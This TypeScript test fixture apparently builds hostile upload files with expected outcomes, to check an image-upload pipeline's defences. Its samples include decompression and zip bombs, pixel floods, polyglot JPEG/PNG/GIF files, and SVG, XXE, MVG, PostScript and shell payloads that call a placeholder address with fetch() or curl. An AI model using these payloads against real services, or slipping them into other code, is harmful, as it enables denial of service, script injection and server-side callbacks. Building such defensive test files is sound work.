/** Files made to hurt whoever opens them: too large once unpacked, not what they seem, endless, broken, or calling home. */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import sharp from 'sharp';

export type HostileFile = {
  name: string;
  file: Buffer;
  /** Sent with the wish to have it kept as it is. */
  asItIs?: boolean;
  /** What must come of it; `either`: a clean copy or a refusal, both are harmless. */
  outcome: 'refused' | 'kept' | 'either';
};

const chunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type), data]);
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
  length.writeUInt32BE(data.length);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, sum]);
};

const png = (width: number, height: number, pixels: Buffer, ...more: Buffer[]): Buffer => {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width);
  head.writeUInt32BE(height, 4);
  head.set([8, 2], 8);
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  return Buffer.concat([
    signature,
    chunk('IHDR', head),
    ...more,
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
};

/** So many zeros, packed. */
const packedZeros = (bytes: number): Buffer => deflateSync(Buffer.alloc(bytes), { level: 9 });

/** One file of an archive. */
const entry = (name: string, packed: Buffer, bytes: number): Buffer => {
  const head = Buffer.alloc(30);
  head.writeUInt32BE(0x504b0304);
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(8, 8);
  head.writeUInt32LE(packed.length, 18);
  head.writeUInt32LE(bytes, 22);
  head.writeUInt16LE(name.length, 26);
  return Buffer.concat([head, Buffer.from(name), packed]);
};

const officeBomb = (calling: string): Buffer => {
  const bytes = 64 << 20;
  const bomb = deflateRawSync(Buffer.alloc(bytes), { level: 9 });
  const link = Buffer.from(
    `<Relationships><Relationship TargetMode="External" Target="${calling}/docx"/></Relationships>`,
  );
  return Buffer.concat([
    entry('[Content_Types].xml', deflateRawSync(Buffer.from('<Types/>')), 8),
    entry('word/_rels/document.xml.rels', deflateRawSync(link), link.length),
    ...Array.from({ length: 20 }, (_, at) => entry(`word/document${at}.xml`, bomb, bytes)),
  ]);
};

/** A GIF that has the same small picture over and over. */
const longGif = (frames: number): Buffer => {
  const head = Buffer.from('GIF89a\x10\x00\x10\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00', 'latin1');
  const frame = Buffer.from(
    '\x21\xf9\x04\x00\x00\x00\x00\x00\x2c\0\0\0\0\x01\x00\x01\x00\x00\x02\x02\x44\x01\x00',
    'latin1',
  );
  return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from(';')]);
};

/** A JPEG with so many directories of facts, each of which names itself as the next. */
const factBomb = (jpeg: Buffer, segments: number): Buffer => {
  const facts = Buffer.alloc(65_000);
  facts.write('Exif\0\0II*\0\x08\0\0\0', 'latin1');
  facts.writeUInt16LE(5_000, 14);
  for (let at = 16; at + 12 < facts.length; at += 12) {
    facts.writeUInt16LE(0x8769, at);
    facts.writeUInt16LE(4, at + 2);
    facts.writeUInt32LE(0xffffffff, at + 4);
    facts.writeUInt32LE(8, at + 8);
  }
  const head = Buffer.from([0xff, 0xe1, 0, 0]);
  head.writeUInt16BE(facts.length + 2, 2);
  return Buffer.concat([
    jpeg.subarray(0, 2),
    ...Array.from({ length: segments }, () => [head, facts]).flat(),
    jpeg.subarray(2),
  ]);
};

/** A JPEG whose head says that it is larger than it is. */
const inflatedJpeg = (jpeg: Buffer): Buffer => {
  const file = Buffer.from(jpeg);
  const at = file.indexOf(Buffer.from([0xff, 0xc0]));
  file.writeUInt16BE(65_500, at + 5);
  file.writeUInt16BE(65_500, at + 7);
  return file;
};

const flip = (file: Buffer, from: number): Buffer =>
  Buffer.from(file.map((byte, at) => (at > from && at % 37 === 0 ? byte ^ 0x55 : byte)));

/** `calling`: an address that must never be called; `heic`: any good one. */
export const makeHostileFiles = async (calling: string, heic: Buffer): Promise<HostileFile[]> => {
  const small = sharp({ create: { width: 64, height: 48, channels: 3, background: '#a40' } });
  const [jpeg, good, webp] = await Promise.all([
    small.clone().jpeg().toBuffer(),
    small.clone().png().toBuffer(),
    small.clone().webp().toBuffer(),
  ]);
  const script = `<script>fetch('${calling}/script')</script>`;
  const refused = (name: string, file: Buffer | string): HostileFile => ({
    ...{ name, outcome: 'refused' },
    file: Buffer.isBuffer(file) ? file : Buffer.from(file.padEnd(64, ' ')),
  });
  const either = (name: string, file: Buffer): HostileFile => ({ name, file, outcome: 'either' });
  const text = Buffer.concat([Buffer.from('Comment\0\0'), packedZeros(64 << 20)]);
  return [
    refused('nothing', Buffer.alloc(0)),
    refused('one byte', Buffer.from([0xff])),
    refused('pixel flood, declared', png(60_000, 60_000, packedZeros(1_000))),
    refused('pixel flood, packed', png(12_000, 12_000, packedZeros(12_000 * 36_001))),
    refused('pixel flood, as JPEG', inflatedJpeg(jpeg)),
    either(
      'pixel flood, as GIF',
      Buffer.concat([Buffer.from('GIF89a\xff\xff\xff\xff', 'latin1'), longGif(1).subarray(10)]),
    ),
    either('more in it than it has room for', png(16, 16, packedZeros(64 << 20))),
    either('text bomb', png(8, 8, packedZeros(8 * 25), chunk('zTXt', text))),
    either('profile bomb', png(8, 8, packedZeros(8 * 25), chunk('iCCP', text))),
    either('bomb of facts', factBomb(jpeg, 300)),
    refused('thousands of frames', longGif(20_000)),
    refused('truncated JPEG', jpeg.subarray(0, jpeg.length - 40)),
    refused('truncated PNG', good.subarray(0, good.length - 30)),
    refused('truncated WebP', webp.subarray(0, webp.length - 20)),
    refused('truncated HEIC', heic.subarray(0, heic.length / 2)),
    either('damaged JPEG', flip(jpeg, 300)),
    either('damaged WebP', flip(webp, 40)),
    ...[30, 200, 500].map((from) => either(`damaged HEIC, from ${from}`, flip(heic, from))),
    refused(
      'drawing with script',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="1">${script}<image href="${calling}/svg"/></svg>`,
    ),
    refused(
      'drawing behind a declaration',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${calling}/xml">]><svg>&x;</svg>`,
    ),
    refused('page named as a picture', `<!doctype html>${script}<img src="${calling}/html">`),
    refused('drawing commands', `push graphic-context\nfill 'url(${calling}/mvg)'\npop graphic-context`),
    refused('play list', `#EXTM3U\n#EXTINF:1\n${calling}/m3u8\n`),
    refused('PostScript', `%!PS\n(${calling}/ps) run`),
    refused('program', '\x7fELF\x02\x01\x01'),
    refused('script', `#!/bin/sh\ncurl ${calling}/sh\n`),
    refused('PNG by its first bytes alone', Buffer.concat([good.subarray(0, 8), Buffer.from(script)])),
    { name: 'page behind a JPEG', file: Buffer.concat([jpeg, Buffer.from(script)]), outcome: 'kept' },
    { name: 'archive behind a PNG', file: Buffer.concat([good, officeBomb(calling)]), outcome: 'kept' },
    either(
      'script in a GIF’s head',
      Buffer.concat([Buffer.from('GIF89a/*\x01\x01', 'latin1'), Buffer.from(`*/=1;${script}`)]),
    ),
    {
      name: 'page in a JPEG’s comment',
      file: Buffer.concat([jpeg.subarray(0, 2), commentOf(script), jpeg.subarray(2)]),
      outcome: 'kept',
    },
    refused('archive bomb as a document', officeBomb(calling)),
    { name: 'archive bomb, as it is', file: officeBomb(calling), asItIs: true, outcome: 'kept' },
    {
      name: 'page, as it is',
      file: Buffer.from(`<!doctype html>${script.padEnd(80)}`),
      asItIs: true,
      outcome: 'refused',
    },
    {
      name: 'page behind a PDF’s first bytes',
      file: Buffer.from(`${script}%PDF-1.7`.padStart(200)),
      asItIs: true,
      outcome: 'refused',
    },
  ];
};

const commentOf = (text: string): Buffer => {
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([head, Buffer.from(text)]);
};
